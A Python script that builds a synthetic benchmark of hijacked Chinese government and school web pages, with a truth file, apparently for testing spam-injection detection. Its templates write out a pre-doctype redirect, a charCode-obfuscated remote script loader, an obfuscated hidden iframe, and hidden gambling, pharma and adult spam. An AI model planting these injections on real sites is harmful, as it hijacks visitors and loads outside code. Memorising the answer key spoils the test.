# -*- coding: utf-8 -*-
"""Generate bench/data/heldout/synthetic-v13 (40 pages: 28 hijacked, 12 clean of which 4 legit).
Deterministic: fixed seed, no clock, no network; a re-run is byte-identical.
Usage: python make_set.py [OUT_DIR]   (default: ../synthetic-v13)"""
import glob, html, json, os, random, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from articles import ARTICLES, LEGIT

SEED = 130313
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v13")
E = lambda s: html.escape(s, quote=False)
A = lambda s: html.escape(s, quote=True)

AUTHORS = ["许晴川", "邵明哲", "龚晓岚", "钟予安", "戴文彬", "柯雨桐", "庞立新", "阎书瑶", "温景行", "覃嘉禾", "骆一鸣", "聂思远"]

# ------------------------------------------------------------------ templates
SITES = {
 "T1": dict(name="岚河县人民政府", host="www.lanhe.gov.cn", enc="utf-8"),
 "T2": dict(name="青梧区教育信息网", host="www.qwjy.net.cn", enc="gbk"),
 "T3": dict(name="松陵镇人民政府", host="www.songling.gov.cn", enc="utf-8"),
 "T4": dict(name="东园区人民政府", host="www.dongyuan.gov.cn", enc="utf-8"),
 "T5": dict(name="岚州职业技术学院", host="www.lzzy.edu.cn", enc="gb18030"),
 "T6": dict(name="松陵实验学校", host="www.slsyxx.cn", enc="utf-8"),
}

def url_for(t, n, d):
    y, m, dd = d.split("-")
    return {"T1": "https://www.lanhe.gov.cn/xwdt/%d.html" % (5200 + n * 7),
            "T2": "http://www.qwjy.net.cn/bencandy.php?fid=23&id=%d" % (1800 + n * 11),
            "T3": "https://www.songling.gov.cn/tabid/%d/ArticleID/%d/Default.aspx" % (61 + n % 5, 3300 + n * 13),
            "T4": "https://www.dongyuan.gov.cn/opencms/export/sites/dy/xxgk/%s/%s%s/%d.html" % (y, m, dd, 90000 + n * 17),
            "T5": "http://www.lzzy.edu.cn/article.php?id=%d" % (700 + n * 5),
            "T6": "https://www.slsyxx.cn/info/%d.jhtml" % (4100 + n * 9)}[t]

def render(t, P):
    """P: dict with title_tag, h1, date, source_shown, author, hits, paras(html list), slots."""
    s = SITES[t]; enc = s["enc"]; S = P["slots"]
    y, m, d = P["date"].split("-")
    logo = S.get("logo") or s["name"]
    head_extra = "".join(S.get("head", []))
    side = "".join(S.get("sidebar", []))
    foot = "".join(S.get("footer", []))
    end = "".join(S.get("body_end", []))
    top = S.get("topbar", "")
    body_p = "\n".join(P["paras"])
    src, au, hits = P["source_shown"], P["author"], P["hits"]
    if t == "T1":   # YzmCMS-style county site
        page = f"""<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="renderer" content="webkit">
<title>{E(P['title_tag'])}_{E(s['name'])}</title>
<meta name="keywords" content="{A(s['name'])}">
<link href="/common/static/css/yzm-style.css" rel="stylesheet">{head_extra}
</head>
<body>
{top}<div class="yzm-header"><div class="w1200"><a class="logo" href="/">{E(logo)}</a>
<ul class="yzm-nav"><li><a href="/">网站首页</a></li><li><a href="/xwdt/">新闻动态</a></li><li><a href="/zwgk/">政务公开</a></li><li><a href="/bsfw/">办事服务</a></li><li><a href="/hdjl/">互动交流</a></li></ul></div></div>
<div class="w1200 yzm-main">
<div class="yzm-crumbs">当前位置:<a href="/">首页</a> &gt; <a href="/xwdt/">新闻动态</a> &gt; 正文</div>
<div class="yzm-left">
<div class="article_title"><h1>{E(P['h1'])}</h1></div>
<div class="article_info">发布时间:{y}-{m}-{d} {P['hm']} &nbsp;&nbsp;来源:{E(src)} &nbsp;&nbsp;作者:{E(au)} &nbsp;&nbsp;浏览次数:<span id="hits">{hits}</span></div>
<div class="article_content">
{body_p}
</div>
<div class="article_page"><p>上一篇:<a href="#">暂无</a></p><p>下一篇:<a href="#">暂无</a></p></div>
</div>
<div class="yzm-right"><div class="yzm-title"><h2>热门文章</h2></div><ul class="hot"><li><a href="#">县政府常务会议研究部署近期重点工作</a></li><li><a href="#">全县安全生产工作会议召开</a></li></ul>{side}</div>
</div>
<div class="yzm-footer"><p>主办:{E(s['name'])}办公室 &nbsp; 地址:岚河县府前街1号</p><p>网站标识码:4311250001 &nbsp; 湘ICP备05008812号</p>{foot}</div>
<script src="/common/static/js/yzm-front.js"></script>{end}
</body>
</html>
"""
    elif t == "T2":  # Qibo (齐博) classic portal, GBK, table layout
        page = f"""<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gbk">
<title>{E(P['title_tag'])} - {E(s['name'])}</title>{head_extra}
<link rel="stylesheet" type="text/css" href="/images/default/style.css">
</head>
<body>
{top}<table width="960" border="0" align="center" cellpadding="0" cellspacing="0" class="top"><tr><td class="logo"><a href="/">{E(logo)}</a></td><td class="guide"><a href="/">首页</a> | <a href="/list.php?fid=23">教育动态</a> | <a href="/list.php?fid=24">通知公告</a> | <a href="/list.php?fid=25">招生考试</a></td></tr></table>
<table width="960" border="0" align="center" cellpadding="0" cellspacing="0" class="MainTable"><tr>
<td class="Main" valign="top">
<div class="guide_nav">您的位置:<a href="/">{E(s['name'])}</a> -&gt; <a href="/list.php?fid=23">教育动态</a> -&gt; 内容</div>
<table width="100%" border="0" cellspacing="0" cellpadding="0" class="dragTable"><tr><td class="head"><h1 class="main_title">{E(P['h1'])}</h1></td></tr>
<tr><td class="content_info">时间:{y}-{m}-{d} &nbsp;来源:{E(src)} &nbsp;作者:{E(au)} &nbsp;点击:<span id="hits">{hits}</span>次</td></tr>
<tr><td class="content"><div id="post1">
{body_p}
</div></td></tr></table>
</td>
<td class="Side" valign="top"><table class="dragTable"><tr><td class="head">相关文章</td></tr><tr><td class="middle"><a href="#">区教育局召开安全工作会议</a><br><a href="#">中小学开展防溺水安全教育</a></td></tr></table>{side}</td>
</tr></table>
<table width="960" align="center" class="footer"><tr><td>Copyright &copy; {E(s['name'])} &nbsp; 技术支持:齐博CMS &nbsp; 备案号:湘ICP备09011573号{foot}</td></tr></table>{end}
</body>
</html>
"""
    elif t == "T3":  # DotNetNuke module page
        page = f"""<!DOCTYPE html>
<html lang="zh-CN">
<head id="Head"><meta content="text/html; charset=UTF-8" http-equiv="Content-Type" />
<title>{E(P['title_tag'])} &gt; {E(s['name'])}</title>
<link href="/Portals/_default/default.css?cdv=31" type="text/css" rel="stylesheet"/>{head_extra}
</head>
<body id="Body">
<form method="post" action="/tabid/{P['tab']}/Default.aspx" id="Form">
{top}<div id="dnn_ContentPane_Header" class="header"><a id="dnn_dnnLOGO_hypLogo" href="/">{E(logo)}</a>
<ul class="topMenu"><li><a href="/">首页</a></li><li><a href="/tabid/61/Default.aspx">镇务动态</a></li><li><a href="/tabid/62/Default.aspx">政务公开</a></li><li><a href="/tabid/63/Default.aspx">便民服务</a></li></ul></div>
<div id="dnn_ContentPane" class="contentPane">
<div class="DnnModule DnnModule-EasyDNNnews DnnModule-{P['mid']}"><a name="{P['mid']}"></a>
<div class="eds_news_ContentTitle"><h1 class="edn_articleTitle">{E(P['h1'])}</h1></div>
<div class="edn_metaDetails"><span class="edn_articleDate">{int(y)}年{int(m)}月{int(d)}日</span> <span class="edn_author">作者:{E(au)}</span> <span class="edn_source">信息来源:{E(src)}</span> <span class="edn_views">阅读:{hits}</span></div>
<div class="edn_articleContent">
{body_p}
</div>
</div></div>
<div id="dnn_RightPane" class="rightPane"><div class="DnnModule"><h2>最新动态</h2><ul><li><a href="#">镇党委理论学习中心组召开专题学习会</a></li></ul></div>{side}</div>
<div id="dnn_FooterPane" class="footer">版权所有:{E(s['name'])} &nbsp; 地址:松陵镇人民路88号 &nbsp; 苏ICP备11042210号{foot}</div>
<input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="/wEPDwUKMTY1NDU2MTA1MmRk" />
</form>{end}
</body>
</html>
"""
    elif t == "T4":  # OpenCms-style 信息公开 page with metadata table
        page = f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>{E(P['title_tag'])}</title>
<meta name="SiteName" content="{A(s['name'])}"><meta name="ArticleTitle" content="{A(P['h1'])}"><meta name="PubDate" content="{y}-{m}-{d} {P['hm']}">
<link rel="stylesheet" href="/opencms/export/system/modules/dy.template/resources/css/xxgk.css">{head_extra}
</head>
<body>
{top}<div class="xxgk-head"><div class="site-name">{E(logo)}</div><div class="xxgk-nav"><a href="/">首页</a><a href="/xxgk/">政府信息公开</a><a href="/xxgk/zc/">政策文件</a><a href="/xxgk/gzdt/">工作动态</a></div></div>
<div class="xxgk-main">
<table class="xxgk-meta" cellspacing="0">
<tr><th>索&nbsp;引&nbsp;号:</th><td>11330106MB{P['idx']}/{y}-{P['seq']:05d}</td><th>主题分类:</th><td>综合政务</td></tr>
<tr><th>发布机构:</th><td>{E(src)}</td><th>生成日期:</th><td>{y}-{m}-{d}</td></tr>
<tr><th>文&nbsp;&nbsp;&nbsp;&nbsp;号:</th><td></td><th>有&nbsp;效&nbsp;性:</th><td>有效</td></tr>
</table>
<div class="xxgk-title"><h1>{E(P['h1'])}</h1></div>
<div class="xxgk-info">发布时间:{y}-{m}-{d} &nbsp; 信息来源:{E(src)} &nbsp; 责任编辑:{E(au)} &nbsp; 访问量:<span class="hits">{hits}</span></div>
<div class="xxgk-content" id="zoom">
{body_p}
</div>
</div>
<div class="xxgk-side">{side}</div>
<div class="xxgk-foot">主办单位:{E(s['name'])}办公室 &nbsp; 政府网站标识码:3301060012 &nbsp; 浙公网安备33010602010011号{foot}</div>{end}
</body>
</html>
"""
    elif t == "T5":  # DouPHP-style college site, GB18030
        page = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gb18030" />
<title>{E(P['title_tag'])} - {E(s['name'])}</title>
<meta name="generator" content="DouPHP v1.5" />
<link href="theme/default/style.css" rel="stylesheet" type="text/css" />{head_extra}
</head>
<body>
{top}<div id="top"><div class="wrap"><div class="logo"><a href="/">{E(logo)}</a></div>
<div id="mainNav"><ul><li><a href="/">首页</a></li><li><a href="article_category.php?id=1">学院新闻</a></li><li><a href="article_category.php?id=2">通知公告</a></li><li><a href="article_category.php?id=3">招生就业</a></li></ul></div></div></div>
<div class="wrap mb"><div id="urHere">当前位置:<a href="/">首页</a><b>&gt;</b><a href="article_category.php?id=1">学院新闻</a></div>
<div id="pageLeft"><div class="treeBox"><h3>学院新闻</h3><ul><li><a href="#">综合新闻</a></li><li><a href="#">教学科研</a></li></ul></div>{side}</div>
<div id="pageIn"><div id="article">
<h1>{E(P['h1'])}</h1>
<div class="info">{y}-{m}-{d} · 来源:{E(src)} · 作者:{E(au)} · 阅读 {hits:,}</div>
<div class="content">
{body_p}
</div>
<div class="lift"><span>上一篇:<a href="#">学院召开党委理论学习中心组学习会</a></span></div>
</div></div></div>
<div id="footer"><div class="wrap"><p>Copyright &copy; {y} {E(s['name'])} All Rights Reserved. 地址:岚州市学府路66号</p>{foot}</div></div>{end}
</body>
</html>
"""
    else:  # T6 Jspxcms-style school page
        page = f"""<!doctype html>
<html>
<head>
<meta charset="utf-8"/>
<meta http-equiv="X-UA-Compatible" content="IE=edge"/>
<title>{E(P['title_tag'])}-{E(s['name'])}</title>
<link href="/_files/css/global.css" rel="stylesheet"/>{head_extra}
<script src="/static/vendor/jquery/jquery.js"></script>
</head>
<body>
{top}<div class="top"><div class="w"><a class="logo" href="/">{E(logo)}</a></div></div>
<div class="menu"><div class="w"><a href="/">学校首页</a><a href="/node/12.jhtml">校园新闻</a><a href="/node/13.jhtml">教育教学</a><a href="/node/14.jhtml">德育天地</a></div></div>
<div class="w clearfix">
<div class="location">您现在的位置:<a href="/">首页</a> &gt; <a href="/node/12.jhtml">校园新闻</a></div>
<div class="con-l">
<div class="infoTitle">{E(P['h1'])}</div>
<div class="infoTime">【发布日期:{int(y)}年{int(m)}月{int(d)}日】【来源:{E(src)}】【撰稿:{E(au)}】【浏览:<span id="info_views_{P['seq']}">{hits}</span>】</div>
<div class="infoText">
{body_p}
</div>
</div>
<div class="con-r"><div class="tit">校园动态</div><ul><li><a href="#">我校召开新学期全体教师大会</a></li></ul>{side}</div>
</div>
<div class="foot"><div class="w">{E(s['name'])} 版权所有 &nbsp; 苏ICP备13020419号-1 &nbsp; Powered by Jspxcms{foot}</div></div>{end}
</body>
</html>
"""
    return page

# ------------------------------------------------------------------ injection forms (modelled on real-cases-v13)
TRAD = dict(zip("县区镇召开会议议员组织进们这时间发总结问题关门开车东长乐书为们来说对该将与从应现实际经济岁业务团体报导复检查级带领导乡农场产业设计议论机关认识访还术师训练专际协调单项测试资财办贷财权务态变质环网络规划计划营运动员护卫时们标准语言词汇类报纸气读写鲜热门处听谁陈张杨赵刘吴周宁济铁钢选举请购买卖卫门户联电话医院录学习体验讲课",
                "縣區鎮召開會議議員組織進們這時間發總結問題關門開車東長樂書為們來說對該將與從應現實際經濟歲業務團體報導複檢查級帶領導鄉農場產業設計議論機關認識訪還術師訓練專際協調單項測試資財辦貸財權務態變質環網絡規劃計劃營運動員護衛時們標準語言詞彙類報紙氣讀寫鮮熱門處聽誰陳張楊趙劉吳週寧濟鐵鋼選舉請購買賣衛門戶聯電話醫院錄學習體驗講課"))
def to_trad(s):
    return "".join(TRAD.get(ch, ch) for ch in s)

def fromcharcode(s): return ",".join(str(ord(c)) for c in s)

def f_redirect_doctype(P, r):
    u = "http://lb7promo%d.bid/index/?%d" % (r.randint(100000, 999999), r.randint(10**12, 10**13 - 1))
    P["before_doctype"] = '<script>window.location.replace("%s");window.location.href = "%s";</script>' % (u, u)
    return []
def f_charcode_loader(P, r):
    src = "https://cdn.statsjq%d.ml/s.js" % r.randint(10, 99)
    sc = ('<script type=text/javascript> Element.prototype.appendAfter = function(element) {element.parentNode.insertBefore(this, element.nextSibling);}, false;'
          '(function() { var elem = document.createElement(String.fromCharCode(%s)); elem.type = String.fromCharCode(%s); elem.src = String.fromCharCode(%s);'
          'elem.appendAfter(document.getElementsByTagName(String.fromCharCode(%s))[0]);document.getElementsByTagName(String.fromCharCode(%s))[0].appendChild(elem);})();</script>'
          % (fromcharcode("script"), fromcharcode("text/javascript"), fromcharcode(src), fromcharcode("script"), fromcharcode("head")))
    P["insert"] = (r.randint(1, 2), sc * r.choice([1, 2]))
    return []
def f_offscreen_pharma(P, r):
    line = r.choice(["Buy Modafinil online with overnight shipping and no prescription needed at PillNest Pharmacy.",
                     "Order Tramadol 100mg for next-day delivery, discreet package from QuickMeds Depot."])
    P["slots"]["footer"].append('<div style="position:absolute;top:-2600px;left:-2600px"><a href="https://pillnest-rx.example/">%s</a></div>' % E(line))
    P["slots"]["head"].append('\n<meta name="description" content="%s">' % A(line))
    return [line.split(" with ")[0].split(" for ")[0]]
def f_expired_embed(P, r):
    line = r.choice(["今すぐ会える大人の出会い【ミツバチ倶楽部】完全無料で登録", "人妻と秘密の出会い【ナイトリリィ】安心の匿名チャット"])
    P["insert"] = (2, '<div class="embed-box"><p>%s</p></div>' % E(line))
    return [line]
def f_thai_block(P, r):
    b = "ufalotus88"
    lines = ["สล็อต %s เว็บตรง แตกง่าย ถอนไม่มีขั้นต่ำ" % b, "หวยออนไลน์ %s จ่ายบาทละ 900 官方网站" % b]
    P["slots"]["footer"].append('<div style="height:0;overflow:hidden">%s</div>' % "<br>".join(E(x) for x in lines))
    P["title_tag"] += " - สล็อต %s" % b
    return ["สล็อต %s" % b, "หวยออนไลน์ %s" % b]
def f_vi_links(P, r):
    b = "vinbet79x"
    items = ["%s nhà cái uy tín tặng 100k" % b, "%s đá gà trực tiếp hôm nay" % b, "tải %s game bài đổi thưởng" % b]
    P["slots"]["sidebar"].append('<ul class="flink" style="display:none">%s</ul>' % "".join(
        '<li><a href="https://%s.%s.win/%d">%s</a></li>' % (r.choice("abcdefgh") + str(r.randint(100, 999)), b, r.randint(10000, 99999), E(x)) for x in items))
    return items[:2]
def f_id_zero_font(P, r):
    b = "samudrabet"
    kws = ["situs %s resmi" % b, "daftar %s link alternatif" % b, "%s deposit pulsa tanpa potongan" % b, "bandar togel %s terpercaya" % b]
    P["insert"] = (len(P["paras"]) - 1, '<p style="font-size:0px;color:#fff">%s</p>' % "<br>".join(E(k) for k in kws))
    return kws[:2]
def f_sold_links(P, r):
    bs = r.sample(["青檀娱乐", "玖蓝体育", "鹿鸣电竞", "星澜国际", "赤兔彩票", "汀兰捕鱼", "霓川棋牌", "墨隼体育"], 4)
    P["slots"]["footer"].append('<div class="flink">友情链接:%s</div>' % " ".join('<a href="https://www.%d%s.com/" target="_blank">%s</a>' % (r.randint(100, 999), "xy", E(b)) for b in bs))
    return bs
def f_array_iframe(P, r):
    dom = "https://www.jqstatic%d.download/frame.html" % r.randint(10, 99)
    js = ('var _0x%s = ["iframe", "setAttribute", "%s", "body", "appendChild", "createElement"];\n'
          '!function(t, x) { !function(x) { for (; --x; ) t.push(t.shift()) }(++x) }(_0x%s, %d);\n'
          'var _0xf = function(t) { return _0x%s[t -= 0] };\n'
          'a = document[_0xf("0x5")](_0xf("0x0")), a[_0xf("0x1")]("src", _0xf("0x2")), a.style.width = "0px", a.style.height = "1px", document[_0xf("0x3")][_0xf("0x4")](a);')
    k = "%06x" % r.randint(0, 0xffffff)
    P["slots"]["body_end"].append("\n<script>\n" + js % (k, dom, k, r.randint(200, 400), k) + "\n</script>")
    return []
def f_title_question(P, r):
    pre = r.choice(["玖蓝体育能赢钱吗", "鹿鸣电竞是正规平台吗"])
    P["title_tag"] = pre + P["title_tag"]; P["h1"] = pre + P["h1"]
    return [pre]
def f_brand_site(P, r):
    b = r.choice(["星澜国际", "墨隼体育"]) + "(中国)"
    P["slots"]["logo"] = b + "官方网站"
    P["title_tag"] = b + "官方网站-" + P["title_tag"]
    P["source_shown"] = b
    P["paras"][0] = P["paras"][0].replace("<p>", "<p>%s讯 " % E(b), 1)
    P["truth_source"] = None
    return [b]
def f_porn_title_trad(P, r):
    w = ["夜莺影院免费看全集", "枫叶影院夜场合集", "青柠视频午夜专场", "樱桃直播福利在线", "芒果成人频道高清"]
    line = "_".join(r.sample(w, 4))
    P["title_tag"] = line
    P["slots"]["topbar"] = '<div class="site-top">%s</div>\n' % E(line)
    P["trad"] = True
    return line.split("_")[:2]
def f_spliced(P, r):
    word = r.choice(["祛斑霜", "增高鞋垫", "霓川棋牌"])
    i = 1 if len(P["paras_raw"]) > 2 else 0
    para = P["paras_raw"][i]
    cut = para.find(",", len(para) // 3)
    if cut < 0: cut = len(para) // 2
    P["paras"][i] = "<p>%s</p>" % E(para[:cut] + word + para[cut:])
    return [word]
def f_mirror_byline(P, r):
    dom = r.choice(["www.lanting888.com", "www.mosun666.com"])
    P["source_shown"] = P["source_shown"] + " " + dom
    P["slots"]["logo"] = dom
    return [dom]

FORMS = [("js_redirect_before_doctype", f_redirect_doctype), ("charcode_script_loader", f_charcode_loader),
         ("offscreen_pharma_text", f_offscreen_pharma), ("adult_dating_embed", f_expired_embed),
         ("thai_keyword_block", f_thai_block), ("hidden_vi_link_list", f_vi_links),
         ("zero_font_keyword_list", f_id_zero_font), ("sold_link_block", f_sold_links),
         ("array_rotation_iframe", f_array_iframe), ("spam_title_question", f_title_question),
         ("brand_replaces_site_name", f_brand_site), ("porn_title_line_trad_mirror", f_porn_title_trad),
         ("spliced_keyword", f_spliced), ("mirror_domain_in_byline", f_mirror_byline)]
MODELLED = {"js_redirect_before_doctype": "rc13 redirect-before-doctype composite", "charcode_script_loader": "rc13 charcode loader composite",
            "offscreen_pharma_text": "rc13 hidden pharma composite", "adult_dating_embed": "rc13 lapsed-embed composite",
            "thai_keyword_block": "rc13 Thai keyword composite", "hidden_vi_link_list": "rc13 Vietnamese link composite",
            "zero_font_keyword_list": "rc13 Indonesian keyword composite", "sold_link_block": "rc13 sold link composite",
            "array_rotation_iframe": "rc13 iframe injector composite", "spam_title_question": "rc13 title-prefix capture",
            "brand_replaces_site_name": "rc13 brand-for-site-name captures", "porn_title_line_trad_mirror": "rc13 porn-line mirror captures",
            "spliced_keyword": "rc13 spliced-keyword capture", "mirror_domain_in_byline": "rc13 mirror-domain capture"}

def dev_spam():
    out = set()
    for f in glob.glob(os.path.join(HERE, "..", "..", "dev", "*", "truth.jsonl")):
        for l in open(f, encoding="utf-8"):
            if l.strip():
                out.update(s.lower() for s in json.loads(l).get("spam_strings") or [])
    return out

def main():
    r = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    T = ["T1", "T2", "T3", "T4", "T5", "T6"]
    plan = []
    for fi in range(len(FORMS)):
        ts = [T[fi % 6], T[(fi + 3) % 6]]
        if FORMS[fi][0] in ("thai_keyword_block", "hidden_vi_link_list"):   # not GBK-encodable
            ts = [x if x != "T2" else "T1" for x in ts]
        for t in ts:
            plan.append((t, fi))
    for k, t in enumerate(T * 2):
        plan.append((t, None))
    legit_slots = {("T1", 0), ("T2", 0), ("T4", 0), ("T5", 0)}
    seen = {}
    order = list(range(len(plan))); r.shuffle(order)
    art_order = list(range(len(ARTICLES))); r.shuffle(art_order)
    rows, n, li = [], 0, 0
    dev = dev_spam()
    for pi in order:
        t, fi = plan[pi]
        n += 1
        cnt = seen.get((t, fi), 0); seen[(t, fi)] = cnt + 1
        legit = fi is None and (t, cnt) in legit_slots
        if legit:
            art = LEGIT[li]; li += 1
        else:
            art = ARTICLES[art_order[(n - 1) % len(ARTICLES)]]
        date = "%d-%02d-%02d" % (r.choice([2022, 2023, 2024, 2025]), r.randint(1, 12), r.randint(1, 28))
        author = r.choice(AUTHORS)
        P = dict(title_tag=art["title"], h1=art["title"], date=date, hm="%02d:%02d" % (r.randint(8, 18), r.randint(0, 59)),
                 source_shown=art["org"], author=author, hits=r.randint(80, 4800), tab=61 + n % 5, mid=400 + n,
                 idx="%08d" % r.randint(0, 10**8 - 1), seq=n, paras_raw=list(art["paras"]),
                 paras=["<p>%s</p>" % E(p) for p in art["paras"]],
                 slots=dict(head=[], sidebar=[], footer=[], body_end=[]), truth_source=art["org"])
        spam, inj = [], []
        if fi is not None:
            name, fn = FORMS[fi]
            spam = fn(P, r); inj = [name]
        if P.get("insert"):
            k, h = P["insert"]; P["paras"].insert(min(k, len(P["paras"])), h)
        title_truth, text_truth = art["title"], "\n".join(art["paras"])
        if P.get("trad"):
            P["h1"] = to_trad(P["h1"]); P["paras"] = [to_trad(p) if p.startswith("<p>") else p for p in P["paras"]]
            P["source_shown"] = to_trad(P["source_shown"])
            title_truth, text_truth = to_trad(title_truth), to_trad(text_truth)
            P["truth_source"] = to_trad(P["truth_source"]) if P["truth_source"] else None
        page = render(t, P)
        if P.get("before_doctype"):
            page = P["before_doctype"] + page
        cid = "syn13-%03d" % n
        enc = SITES[t]["enc"]
        with open(os.path.join(OUT, "html", cid + ".html"), "wb") as f:
            f.write(page.encode(enc))
        for s in spam:
            sl = s.lower()
            for d in dev:
                if len(d) >= 3 and (sl in d or d in sl):
                    raise SystemExit("spam overlaps dev spam_strings: %r ~ %r" % (s, d))
        rows.append(dict(id=cid, url=url_for(t, n, date), title=title_truth, date=date, source=P["truth_source"], author=author,
                         text=text_truth, hijacked=fi is not None, injections=inj, spam_strings=spam, legit=legit, lang="zh",
                         origin="synthetic (make_set.py, seed %d)" % SEED + ("; modelled on %s" % MODELLED[inj[0]] if inj else ""),
                         kind="synthetic", site=SITES[t]["host"], capture="html", encoding=enc, template=t))
    rows.sort(key=lambda x: x["id"])
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print(len(rows), "pages;", sum(x["hijacked"] for x in rows), "hijacked;", sum(x["legit"] for x in rows), "legit")

if __name__ == "__main__":
    main()
